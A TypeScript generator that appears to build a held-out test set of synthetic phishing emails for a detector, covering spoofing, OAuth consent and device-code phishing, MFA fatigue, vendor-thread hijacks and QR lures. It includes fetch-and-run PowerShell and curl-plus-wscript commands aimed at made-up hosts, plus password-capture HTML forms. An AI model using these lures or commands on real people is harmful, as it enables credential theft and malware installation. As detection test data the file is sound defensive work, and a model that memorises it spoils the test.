// The seventh unseen phishing set: credential, consent and malware lures as 2024–2026 campaigns send them
// (the company's own domain spoofed through its direct-send relay, a provider's signed mail replayed, a
// code host's issue notifications, a file path pasted into Explorer, a video interview's "camera fix", AI
// assistants and meeting notes, a Word file damaged on purpose, a meeting client's update, flipbooks,
// money requests, consumer storage, ticket transfers, hotel guests, refunds, pensions, and vendor threads
// taken over), written from vendors' and CERTs' public descriptions without the analysers in sight, every
// message filled from the seed; the fraud, scams and local-language lures of the set are in
// unseen-7-local.ts and join these here. Every attacker's domain is reserved or made up; a real
// service's domain appears only where the attack sends through or hosts on that service; attachments are
// inert.
import type { SeededRandom } from './generate.js';
import { qrJpeg, qrPng, zipOf } from './payloads.js';
import { page, type UnseenMessage } from './unseen-3.js';
import { authResults, domainOf, type EncodedEntry, fillEncoded, uuid } from './unseen-4.js';
import {
  attach,
  combosquat,
  pdfAttachment,
  quotedHistory,
  replyHeaders,
  signed,
  TENANT,
} from './unseen-5-parts.js';
import { LOCAL_ENTRIES } from './unseen-7-local.js';
import { damagedDocx, directSend } from './unseen-7-parts.js';

const LURE_ENTRIES: EncodedEntry[] = [
  // The company's own domain, spoofed through its mail service's direct-send relay.
  {
    kind: 'direct-send-spoof',
    template: 'direct-send-voicemail-pdf-qr',
    write: async (s) => {
      const link = `https://${s.host('vm', 'listen')}/p/${s.token(12)}?u=${Buffer.from(s.victim.email).toString('base64')}`;
      const seconds = 20 + s.below(40);
      return {
        headers: s.headers('Voice Mail', `voicemail@corp.example`, directSend()),
        subject: `New voice message from ${s.phone()} (0:${seconds})`,
        text: `You received a voice message.\n\nDuration: 0:${seconds}\nPlease scan the code in the attached document with your phone to play it.\n\nUnified Messaging – ${s.company}`,
        parts: [
          pdfAttachment(
            `VM_${s.digits(8)}.pdf`,
            [
              'Voice message waiting',
              `For: ${s.victim.email}`,
              'Scan the code below with your phone camera to listen.',
            ],
            { jpeg: await qrJpeg(link) },
          ),
        ],
      };
    },
  },
  {
    kind: 'direct-send-spoof',
    template: 'direct-send-scan-html-attachment',
    transfer: 'base64',
    write: (s) => {
      const action = `https://${s.host('scan', 'office')}/post.php`;
      return {
        headers: s.headers(
          `${s.pick(['RICOH', 'Konica Minolta', 'Canon'])} MFP`,
          `scanner@corp.example`,
          directSend(),
        ),
        subject: `Scanned document from ${s.colleague.name} – ${2 + s.below(9)} pages`,
        text: `Please open the attached file in your browser to view the scanned document.\n\nDevice: MFP-${s.digits(4)}\nSender: ${s.colleague.email}`,
        parts: [
          attach(
            'text/html',
            `Scan_${s.digits(10)}.html`,
            `<html><head><title>Document Viewer</title></head><body><p>Loading document…</p><form method="post" action="${action}"><input type="hidden" name="e" value="${s.victim.email}"><p>Confirm your password to view this file</p><input type="password" name="p"><button>View</button></form></body></html>`,
          ),
        ],
      };
    },
  },
  // A provider's signed mail, its body chosen by the attacker, sent on to the victim unchanged.
  {
    kind: 'dkim-replay',
    template: 'provider-subpoena-sites-page',
    write: (s) => {
      const caseId = s.digits(10);
      return {
        headers: [
          'From: no-reply@accounts.google.com',
          `To: me@${s.host('mail', 'relay')}`,
          signed('accounts.google.com'),
        ],
        subject: `Security alert: A subpoena was served to Google LLC requiring the production of content from your Google Account`,
        text: [
          'A subpoena was served on Google LLC requiring us to produce a copy of the content contained in your Google Account.',
          '',
          `Case number: ${caseId}`,
          '',
          'Google will respond to the legal process unless we receive a court-stamped copy of a motion to quash within',
          '7 days. To examine the case materials or submit a protest, visit the support case:',
          `https://sites.google.com/view/support-case-${caseId}/home`,
          '',
          'Thank you,',
          'Google Legal Support',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'code-host-notification',
    template: 'issue-mention-security-app',
    write: (s) => {
      const repo = `${s.company.toLowerCase().replace(/[^a-z]/g, '')}/${s.pick(['api', 'infra', 'web-app', 'billing-service'])}`;
      const issue = 100 + s.below(800);
      return {
        headers: s.headers(s.token(8), 'notifications@github.com', [
          signed('github.com'),
          `List-ID: ${repo} <${repo.replace('/', '.')}.github.com>`,
        ]),
        subject: `[${repo}] Security Alert: Unusual Access Attempt (Issue #${issue})`,
        text: [
          'Hey there!',
          '',
          `We have detected an unusual access attempt to your account. Location: ${s.pick(['Reykjavik, Iceland', 'Sao Paulo, Brazil', 'Jakarta, Indonesia'])}`,
          '',
          'If this was you, no action is needed. If you did not initiate this, please secure your account by authorising',
          'the GitHub Security app to review your sessions:',
          `https://github.com/login/oauth/authorize?client_id=Ov23li${s.token(14)}&scope=repo,workflow,gist&redirect_uri=https://${s.host('gh', 'secure')}/callback`,
          '',
          'Stay safe,',
          'GitHub Security Team',
          '',
          '—',
          'Reply to this email directly, view it on GitHub:',
          `https://github.com/${repo}/issues/${issue}`,
          'You are receiving this because you were mentioned.',
        ].join('\n'),
      };
    },
  },
  // Commands to paste: into File Explorer's address bar, or to "fix" a camera before an interview.
  {
    kind: 'filefix',
    template: 'policy-document-explorer-path',
    write: (s) => {
      const payload = `powershell -w h -c "iwr https://${s.host('cdn', 'files')}/${s.token(6)}.ps1|iex"`;
      const domain = combosquat(s, 'corp.example');
      return {
        headers: s.headers(`HR ${s.company}`, `hr@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: 'Updated Remote Work Policy – acknowledgement required by Friday',
        html: page(
          [
            `Dear ${s.victim.first},`,
            'The updated remote work policy is stored on our internal file drive. To open it:',
            '1. Copy the file path below<br>2. Open File Explorer (Windows + E) and press Ctrl + L<br>3. Paste the path (Ctrl + V) and press Enter',
            `<div style="font-family:Consolas,monospace;background:#f3f3f3;padding:8px;border:1px solid #ccc">${payload} # C:\\\\${s.company.replace(/ /g, '')}\\\\HR\\\\Policies\\\\Remote_Work_Policy_2027.docx</div>`,
            'Please confirm you have read it by Friday.',
          ],
          undefined,
          `${s.company} Human Resources`,
        ),
      };
    },
  },
  {
    kind: 'fake-interview-fix',
    template: 'video-interview-camera-fix',
    write: (s) => {
      const firm = s.pick(['Arcadia Ventures', 'Blocknest Capital', 'Lumen Protocol Labs']);
      const domain = s.host(firm.split(' ')[0].toLowerCase(), 'hire');
      return {
        headers: s.headers(`${s.stranger.name} | ${firm}`, `talent@${domain}`, [signed(domain)]),
        subject: `${firm} – next step: recorded video interview (Senior ${s.pick(['Backend', 'Product', 'DevOps'])} Engineer)`,
        text: [
          `Hi ${s.victim.first},`,
          '',
          'Thank you for your interest. The next step is a short recorded video interview on our assessment platform:',
          `https://${domain}/interview/${s.token(10)}`,
          '',
          'Some candidates see "Camera access blocked by driver" on Windows or macOS. If so, the page shows a one-line',
          'fix to paste into Terminal or PowerShell; it updates the camera driver and takes under a minute:',
          `curl -k -o "%TEMP%\\\\webcam.zip" https://${domain}/drivers/update.zip && powershell Expand-Archive -Force "%TEMP%\\\\webcam.zip" "%TEMP%\\\\nvfix" && wscript "%TEMP%\\\\nvfix\\\\update.vbs"`,
          '',
          'Please complete it within 48 hours.',
          '',
          'Best regards,',
          `${s.stranger.name}, Talent Acquisition`,
        ].join('\n'),
      };
    },
  },
  // AI assistants and meeting notes.
  {
    kind: 'ai-assistant-lure',
    template: 'copilot-licence-payment-failed',
    write: (s) => {
      const domain = s.host('copilot', 'm365');
      return {
        headers: s.headers('Microsoft 365 Copilot', `billing@${domain}`, [
          authResults(domain, ['pass', 'pass', 'none']),
        ]),
        subject: `Action required: Copilot for Microsoft 365 licences for ${s.company} will be removed`,
        html: page(
          [
            `<b>We couldn't process your payment</b>`,
            `The payment for ${10 + s.below(90)} Copilot for Microsoft 365 licences (USD ${s.money(3_000, 27_000)}) was declined. Licences will be removed from your users in 3 days and their Copilot chat history deleted.`,
            'Update the payment method in the Microsoft 365 admin center to keep your licences.',
          ],
          ['Update payment method', `https://${domain}/admin/billing?tenant=${TENANT}&session=${uuid(s)}`],
          'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        ),
      };
    },
  },
  {
    kind: 'meeting-notes-lure',
    template: 'ai-notes-ready-compromised',
    write: (s) => {
      const sender = s.borrowed();
      return {
        headers: s.headers(
          `${s.stranger.name} (Meeting notes)`,
          `${s.stranger.first.toLowerCase()}@${sender}`,
          [signed(sender)],
        ),
        subject: `Meeting notes ready: ${s.vendor.name} <> ${s.company} – pricing follow-up`,
        html: page(
          [
            `Your AI notetaker summarised the meeting <b>${s.vendor.name} &lt;&gt; ${s.company}</b> (${30 + s.below(30)} min).`,
            '<b>Action items</b><br>• Review revised pricing proposal (owner: you)<br>• Confirm payment schedule before month end',
            'The full transcript and the shared proposal are in the notes.',
          ],
          ['View notes and transcript', `https://${s.host('notes', 'meeting')}/n/${s.token(16)}`],
          'You received this because you were an attendee of this meeting.',
        ),
      };
    },
  },
  // A Word file damaged on purpose, a meeting client's update, a flipbook.
  {
    kind: 'damaged-document',
    template: 'damaged-docx-bonus-link',
    write: (s) => {
      const link = `https://${s.host('hr', 'bonus')}/q/${s.token(8)}`;
      const domain = s.host('payroll');
      return {
        headers: s.headers(`Payroll – ${s.company}`, `payroll@${domain}`, [
          authResults(domain, ['none', 'none', 'none']),
        ]),
        subject: `${s.victim.first}, your 2026 annual bonus and benefits statement`,
        text: `Hello ${s.victim.first},\n\nYour annual bonus and benefits statement is attached. If Word reports that the file is damaged, click "Yes" to recover its contents, then open the link in the document to sign in and confirm your details.\n\nPayroll team`,
        parts: [
          damagedDocx(`Bonus_Statement_${s.victim.last}.docx`, [
            'Annual bonus and benefits statement 2026',
            `Employee: ${s.victim.name}`,
            `View your statement online: ${link}`,
          ]),
        ],
      };
    },
  },
  {
    kind: 'fake-meeting-update',
    template: 'meeting-client-update-exe',
    write: (s) => {
      const domain = s.host('zoom', 'workplace');
      return {
        headers: s.headers(`${s.boss.name} via Zoom`, `no-reply@${domain}`, [
          authResults(domain, ['softfail', 'none', 'none']),
        ]),
        subject: `${s.boss.first} is waiting for you in "${s.pick(['Q4 forecast review', 'Budget sync', 'Leadership 1:1'])}"`,
        html: page(
          [
            `${s.boss.name} started the meeting and is waiting for you to join.`,
            '<b>Your Zoom Workplace app is out of date.</b> This meeting requires version 6.4 or later. Install the update, then join from the app.',
          ],
          ['Update and join', `https://${domain}/download/ZoomWorkplace_6.4.${s.digits(4)}.exe`],
          'Zoom Communications, Inc.',
        ),
      };
    },
  },
  {
    kind: 'flipbook-hosted-document',
    template: 'flipbook-statement-compromised',
    write: (s) => {
      const sender = s.borrowed();
      return {
        headers: s.headers(s.stranger.name, `accounts@${sender}`, [signed(sender)]),
        subject: `Statement of account – ${s.company} – ${s.pick(['October', 'November'])}`,
        text: `Hi,\n\nPlease view our statement of account and remittance advice here:\nhttps://online.flipbuilder.com/${s.token(6)}/${s.token(4)}/\n\nThe document has a button at the end to download the PDF.\n\nRegards,\n${s.stranger.name}\n${sender}`,
      };
    },
  },
  {
    kind: 'mailbox-delegation',
    template: 'shared-mailbox-delegate-accept',
    write: (s) => {
      const domain = s.host('outlook', 'access');
      return {
        headers: s.headers('Microsoft Outlook', `no-reply@${domain}`, [
          authResults(domain, ['none', 'none', 'none']),
        ]),
        subject: `${s.boss.name} has granted you access to the mailbox "Finance-Approvals"`,
        html: page(
          [
            `${s.boss.name} (${s.boss.email}) has given you <b>Full Access</b> and <b>Send As</b> permission to the shared mailbox <b>Finance-Approvals</b>.`,
            'To add the mailbox to Outlook, accept the invitation within 24 hours; after that it expires.',
          ],
          [
            'Accept and open mailbox',
            `https://${domain}/owa/delegate/accept?id=${uuid(s)}&login_hint=${s.victim.email}`,
          ],
          'Microsoft Corporation',
        ),
      };
    },
  },
  // Consent, device codes, prompts and QR codes in new dress.
  {
    kind: 'oauth-consent',
    template: 'esign-integration-consent',
    write: (s) => {
      const sender = s.borrowed();
      return {
        headers: s.headers(`${s.stranger.name}`, `${s.stranger.first.toLowerCase()}@${sender}`, [
          signed(sender),
        ]),
        subject: `Contract for signature – ${s.company} ${s.pick(['MSA', 'SOW', 'NDA'])} ${s.digits(4)}`,
        html: page(
          [
            `Hi ${s.victim.first},`,
            'The contract is ready to sign in our signing app. The first time, Microsoft will ask you to allow the app to read your profile and mailbox so it can send you the signed copy.',
          ],
          [
            'Open and sign',
            `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${uuid(s)}&response_type=code&scope=offline_access%20Mail.Read%20Mail.Send%20Files.ReadWrite.All&redirect_uri=https%3A%2F%2F${s.host('sign', 'docs')}%2Fauth`,
          ],
          `Sent from ${sender}`,
        ),
      };
    },
  },
  {
    kind: 'device-code',
    template: 'printer-enrolment-device-code',
    write: (s) => {
      const code = s.token(9).toUpperCase();
      const from = s.freemail(s.colleague);
      return {
        headers: s.headers('IT Service Desk', from, [authResults(domainOf(from), ['pass', 'pass', 'pass'])]),
        subject: 'New floor printers – register your account today',
        text: [
          `Hi ${s.victim.first},`,
          '',
          'We are moving everyone to the new secure-print printers this week. To keep printing, register your account:',
          '',
          '1. Go to https://microsoft.com/devicelogin',
          `2. Enter the code ${code}`,
          '3. Sign in with your work account',
          '',
          'The code is valid for 15 minutes; reply to this message if it expires and we will send a new one.',
          '',
          'IT Service Desk',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'mfa-fatigue',
    template: 'expect-prompts-vpn-cutover',
    write: (s) => {
      const domain = combosquat(s, 'corp.example');
      return {
        headers: s.headers('IT Security', `it-security@${domain}`, [signed(domain)]),
        subject: 'VPN cut-over tonight: approve the sign-in requests you receive',
        text: [
          'Hello,',
          '',
          'Tonight between 18:00 and 20:00 we move the VPN to the new gateway. During the move your authenticator will',
          'show several sign-in requests. Please APPROVE all of them, otherwise your account is locked out of the VPN',
          'and you will need to visit the IT desk in person.',
          '',
          'If a number is shown, call us on the number below and read it out; we will enter it for you.',
          `IT Security: ${s.phone()}`,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'qr-code',
    template: 'parking-permit-renewal-inline-qr',
    write: async (s) => {
      const link = `https://${s.host('parking', 'permit')}/renew?e=${s.victim.email}`;
      const domain = s.host('facilities');
      return {
        headers: s.headers(`Facilities – ${s.company}`, `facilities@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: 'Your 2027 parking permit expires on 31 December',
        html: `<html><body style="font-family:Arial,sans-serif"><p>Dear ${s.victim.first},</p><p>Staff parking permits are renewed online this year. Scan the code with your phone and sign in with your work account to renew; permits not renewed by 31 December are cancelled.</p><p><img src="cid:permit.png" alt="QR code" width="200"></p><p>Facilities Management</p></body></html>`,
        parts: [{ type: 'image/png', name: 'permit.png', content: await qrPng(link), inline: true }],
      };
    },
  },
  {
    kind: 'html-attachment',
    template: 'remittance-shtml-attachment',
    write: (s) => {
      const sender = s.borrowed();
      return {
        headers: s.headers(s.stranger.name, `payments@${sender}`, [signed(sender)]),
        subject: `Payment advice ${s.digits(7)} – ${s.company}`,
        text: 'Hello,\n\nPlease find attached the payment advice for your records.\n\nKind regards,\nAccounts Payable',
        parts: [
          attach(
            'text/html',
            `PaymentAdvice_${s.digits(6)}.shtml`,
            `<html><body><script>window.location.href=atob("${Buffer.from(`https://${s.host('remit', 'advice')}/#${s.victim.email}`).toString('base64')}")</script></body></html>`,
          ),
        ],
      };
    },
  },
  // Money requests, storage, social badges, tickets, hotels, refunds, pensions.
  {
    kind: 'payment-request-abuse',
    template: 'money-request-note-callback',
    write: (s) => ({
      headers: s.headers('PayPal', 'service@paypal.com', [signed('paypal.com')]),
      subject: `${s.pick(['Billing Department', 'Order Desk', 'Geek Support'])} sent you a request for $${s.money(400, 990)} USD`,
      html: page(
        [
          'You have a new money request.',
          `<b>Note from seller:</b> "Your PayPal account was used to purchase a ${s.pick(['MacBook Pro 16', 'PlayStation 5 bundle', 'Bitcoin (0.01 BTC)'])}. If you did not make this purchase, call PayPal support immediately at ${s.phone()} to cancel. Do not pay this request."`,
        ],
        ['Pay now', `https://www.paypal.com/myaccount/transfer/requests/${s.token(17).toUpperCase()}`],
        'PayPal, 2211 North First Street, San Jose, CA 95131',
      ),
    }),
  },
  {
    kind: 'storage-payment-lure',
    template: 'photos-deleted-card-expired',
    transfer: 'quoted-printable',
    write: (s) => {
      const domain = s.host('icloud', 'storage');
      return {
        headers: s.headers('iCloud', `noreply@${domain}`, [authResults(domain, ['none', 'none', 'none'])]),
        subject: `${s.victim.first}, your photos and videos will be deleted on ${1 + s.below(9)} December!`,
        html: page(
          [
            '<b>Your iCloud storage is full.</b>',
            `Your payment method has expired, so your plan could not be renewed. ${2000 + s.below(6000)} photos and videos will be deleted in 48 hours.`,
            'As a loyal customer you can get 50 GB extra for free today: just confirm your payment details.',
          ],
          ['Upgrade storage', `https://${domain}/upgrade/${s.token(10)}`],
          'Apple Inc. One Apple Park Way, Cupertino, CA 95014',
        ),
      };
    },
  },
  {
    kind: 'social-verification',
    template: 'verified-badge-appeal-form',
    write: (s) => {
      const domain = s.host('meta', 'verified');
      return {
        headers: s.headers('Meta Verified', `support@${domain}`, [
          authResults(domain, ['pass', 'pass', 'pass']),
        ]),
        subject: `Your page "${s.company}" is eligible for the blue verified badge`,
        html: page(
          [
            `Congratulations! Your page <b>${s.company}</b> has been reviewed and is eligible for the Meta Verified badge at no charge.`,
            'To receive it, complete the verification form within 48 hours. The page admin must confirm their identity and login.',
          ],
          ['Get verified badge', `https://${domain}/badge/form?id=${s.digits(15)}`],
          'Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025',
        ),
      };
    },
  },
  {
    kind: 'event-ticket-lure',
    template: 'ticket-transfer-accept',
    write: (s) => {
      const domain = s.host('tickets', 'transfer');
      return {
        headers: s.headers(`${s.colleague.first} via Ticket Transfer`, `transfers@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: `${s.colleague.first} sent you 2 tickets – accept by tonight`,
        html: page(
          [
            `${s.colleague.name} sent you 2 tickets for <b>${s.pick(['Coldplay – Music of the Spheres', 'Champions League quarter-final', 'Taylor Swift | The Eras Tour'])}</b>.`,
            'Sign in to accept them. Transfers that are not accepted within 12 hours go back to the sender.',
          ],
          ['Accept tickets', `https://${domain}/accept/${s.token(12)}`],
        ),
      };
    },
  },
  {
    kind: 'travel-reservation',
    template: 'guest-card-verification',
    write: (s) => {
      const domain = s.host('booking', 'reservations');
      return {
        headers: s.headers('Booking.com', `noreply@${domain}`, [
          authResults(domain, ['none', 'none', 'none']),
        ]),
        subject: `Reservation ${s.digits(10)}: confirm your card to avoid cancellation`,
        html: page(
          [
            `Dear ${s.victim.first},`,
            `Your reservation at <b>${s.pick(['Hotel Arcadia Lisboa', 'Nordic Light Hotel', 'Hotel Praha Centrum'])}</b> (${10 + s.below(18)}–${1 + s.below(9)} January) could not be guaranteed: the property could not verify your card.`,
            'Please confirm your card within 12 hours or the reservation will be cancelled. No amount will be charged.',
          ],
          ['Confirm card', `https://${domain}/confirm/${s.digits(10)}?pin=${s.digits(4)}`],
          'Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam',
        ),
      };
    },
  },
  {
    kind: 'utility-refund',
    template: 'energy-overcharge-refund',
    write: (s) => {
      const domain = s.host('energy', 'refund');
      const refund = s.money(80, 340);
      return {
        headers: s.headers('Energy Account Services', `refunds@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: `You have been overcharged: £${refund} refund pending`,
        text: `Dear customer,\n\nFollowing a review of your meter readings we have found that you were overcharged for gas and electricity this year.\n\nRefund due: £${refund}\n\nTo receive it to your bank card, complete the refund form before ${1 + s.below(27)} December:\nhttps://${domain}/claim/${s.token(8)}\n\nEnergy Account Services`,
      };
    },
  },
  {
    kind: 'pension-lure',
    template: 'pension-statement-review',
    write: (s) => {
      const domain = s.host('pension', 'statement');
      return {
        headers: s.headers(`${s.company} Pension Scheme`, `statements@${domain}`, [
          authResults(domain, ['pass', 'pass', 'pass']),
        ]),
        subject: 'Important: review your pension contributions before the annual cut-off',
        html: page(
          [
            `Dear ${s.victim.first} ${s.victim.last},`,
            `Your annual pension statement shows a shortfall in your employer contributions for ${s.pick(['2025', '2026'])}. To have them corrected before the scheme's annual cut-off, sign in and confirm your details.`,
          ],
          ['View my statement', `https://${domain}/member/login?ref=${s.digits(8)}`],
          `${s.company} Pension Scheme Trustees`,
        ),
      };
    },
  },
  // A vendor's real mailbox taken over, answering a real thread.
  {
    kind: 'vendor-thread-hijack',
    template: 'thread-swift-copy-urgent',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email, [
        ...replyHeaders(s, s.vendor.domain),
        signed(s.vendor.domain),
      ]),
      subject: `RE: ${s.vendor.name} – open invoices ${s.company}`,
      text: [
        `Hi ${s.victim.first},`,
        '',
        `Thanks for the update. Please note our bank has changed the account for EUR payments following our annual`,
        'audit; the old account is blocked from today, so any payment sent to it will come back.',
        'Could you share the SWIFT copy once the open invoices are paid to the new account? Details are on our updated',
        'letterhead, which I can send you as soon as you confirm the amount and value date.',
        '',
        'Best regards,',
        s.stranger.name,
        quotedHistory(
          s.victim.name,
          'Wednesday, 28 October 2026 10:14',
          `${s.vendor.name} – open invoices ${s.company}`,
          [
            `Hi ${s.stranger.first},`,
            `The invoices ${s.digits(5)} and ${s.digits(5)} are scheduled for our next payment run. I will let you know once they are out.`,
          ],
        ),
      ].join('\n'),
    }),
  },
  {
    kind: 'vendor-thread-hijack',
    template: 'thread-updated-statement-pdf-link',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email, [
        ...replyHeaders(s, s.vendor.domain),
        signed(s.vendor.domain),
      ]),
      subject: `RE: RE: Statement reconciliation ${s.pick(['Q3', 'Q4'])}`,
      text: `${s.victim.first},\n\nAs discussed, the reconciled statement is attached. Open it and use the link to view the full ledger.\n\nThanks,\n${s.stranger.first}`,
      parts: [
        pdfAttachment(
          `Statement_${s.company.replace(/ /g, '_')}.pdf`,
          [
            `${s.vendor.name} – statement of account`,
            'This document is protected.',
            'Click here to view the full ledger',
          ],
          { link: `https://${s.host('ledger', 'view')}/s/${s.token(10)}` },
        ),
      ],
    }),
  },
  {
    kind: 'double-extension',
    template: 'tender-documents-zip-scr',
    write: (s) => {
      const sender = s.borrowed();
      return {
        headers: s.headers(s.stranger.name, `tenders@${sender}`, [signed(sender)]),
        subject: `Invitation to tender ${s.digits(4)}/${s.pick(['2026', '2027'])} – documents attached`,
        text: `Dear Sir/Madam,\n\nYou are invited to submit a bid. The tender documents and drawings are attached. Deadline: 12 December.\n\nRegards,\n${s.stranger.name}\nProcurement`,
        parts: [
          attach(
            'application/zip',
            `Tender_${s.digits(4)}.zip`,
            zipOf(`Tender_Documents_${s.digits(4)}.pdf.scr`),
          ),
        ],
      };
    },
  },
];

const ENTRIES: EncodedEntry[] = [...LURE_ENTRIES, ...LOCAL_ENTRIES];

export const UNSEEN_7_KINDS: readonly string[] = [...new Set(ENTRIES.map((e) => e.kind))];
export const UNSEEN_7_TEMPLATE_COUNT = ENTRIES.length;

export async function unseenPhishing7(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage[]> {
  return fillEncoded(ENTRIES, perTemplate, seed, seededRandom, 7_000_000);
}
